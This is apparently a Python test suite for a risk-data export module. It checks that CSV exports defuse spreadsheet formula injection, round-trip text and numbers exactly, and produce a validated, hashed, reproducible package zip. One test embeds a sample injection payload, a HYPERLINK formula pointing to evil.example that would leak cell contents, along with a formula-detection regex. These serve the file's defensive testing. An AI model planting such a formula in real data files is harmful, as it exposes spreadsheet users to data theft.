"""CSVs that no spreadsheet runs and that come back as they were; the package as one file."""

import csv
import hashlib
import io
import json
import re
import zipfile

import frictionless
import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from riskdata import catalogue
from riskdata.datapackage import as_csv
from riskdata.desk import exports
from riskdata.reading import read

RUNS_AS_FORMULA = re.compile(r"^[=+\-@\t\r]")
TURNING_POINTS = catalogue.load("turning_points").head(8)
VERSIONS = {"incidents": 3, "cpec_projects": 0, "claims": 1}

words = st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=12)
cells = st.builds(
    "{}{}{}".format, st.sampled_from(["", "'", "''"]), st.sampled_from("=+-@x"), words
)


def cells_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


@given(texts=st.lists(cells.map(str.strip), min_size=8, max_size=8))
@settings(max_examples=50)
def test_an_exported_dataset_comes_back_as_it_was_whatever_its_texts(texts):
    frame = TURNING_POINTS.assign(why=pd.Series(texts, dtype="str"))
    again = read("turning_points", as_csv(frame), "turning_points.csv")
    pd.testing.assert_frame_equal(again, frame)


@given(texts=st.lists(st.sampled_from("\t\r=+-@'") | st.text(max_size=9), min_size=1))
def test_no_text_of_an_export_runs_in_a_spreadsheet(texts):
    frame = pd.DataFrame({"text": texts, "label": pd.Categorical(texts)})
    frame["mixed"] = frame["text"].astype(object)
    for row in cells_of(as_csv(frame.assign(at=0)))[1:]:
        assert not any(RUNS_AS_FORMULA.match(cell) for cell in row)


def test_a_link_written_as_a_formula_leaves_as_text_and_comes_back(frames):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"see")'
    content = as_csv(frames["incidents"].head(3).assign(summary=formula))
    written = {row["summary"] for row in csv.DictReader(io.StringIO(content.decode("utf-8")))}
    assert written == {f"'{formula}"}
    assert set(read("incidents", content, "incidents.csv")["summary"]) == {formula}


def test_numbers_and_days_leave_as_they_are():
    frame = pd.DataFrame(
        {
            "change": [-12.5, 3.0],
            "count": pd.array([-1, None], dtype="Int64"),
            "day": pd.to_datetime(["2024-10-06", "2024-10-07"]),
            "mixed": pd.Series([-2, "-2"], dtype=object),
        }
    )
    assert cells_of(as_csv(frame))[1:] == [
        ["-12.5", "-1", "2024-10-06", "-2"],
        ["3", "", "2024-10-07", "'-2"],
    ]


@given(values=st.lists(st.floats(allow_nan=False, allow_infinity=False), min_size=1))
def test_a_number_comes_back_to_the_last_digit(values):
    (_, *written) = cells_of(as_csv(pd.DataFrame({"value": values})))
    assert [float(cell) for (cell,) in written] == values


def package_of(frames: dict[str, pd.DataFrame]) -> bytes:
    metadata = {name: catalogue.metadata(name) for name in VERSIONS}
    return exports.package_zip(
        {name: frames[name] for name in VERSIONS}, metadata, VERSIONS, edition=12
    )


def test_an_independent_validator_accepts_the_zip_as_it_is_downloaded(frames, tmp_path):
    path = tmp_path / exports.package_name(12)
    path.write_bytes(package_of(frames))
    report = frictionless.validate(str(path), type="package")
    assert report.valid, report.flatten(["name", "rowNumber", "fieldName", "message"])[:10]
    assert {task.name for task in report.tasks} == set(VERSIONS)


def test_the_package_names_edition_and_versions_and_vouches_for_every_byte(frames):
    files = zipfile.ZipFile(io.BytesIO(package_of(frames)))
    package = json.loads(files.read("datapackage.json"))
    assert package["version"] == "12"
    for one in package["resources"]:
        content = files.read(one["path"])
        assert one["version"] == str(VERSIONS[one["name"]])
        assert one["bytes"] == len(content)
        assert one["hash"] == f"sha256:{hashlib.sha256(content).hexdigest()}"


def test_the_same_versions_make_the_same_package(frames):
    assert package_of(frames) == package_of(frames)


def test_a_downloaded_file_is_named_after_its_version():
    assert exports.csv_name("incidents", 3) == "incidents-v3.csv"
    assert exports.csv_name("incidents", 0) == "incidents-bundled.csv"
    assert exports.rows_name("Attacks by year", 12) == "attacks-by-year-edition-12.csv"
    assert exports.package_name(12) == "corridor-watch-edition-12.zip"
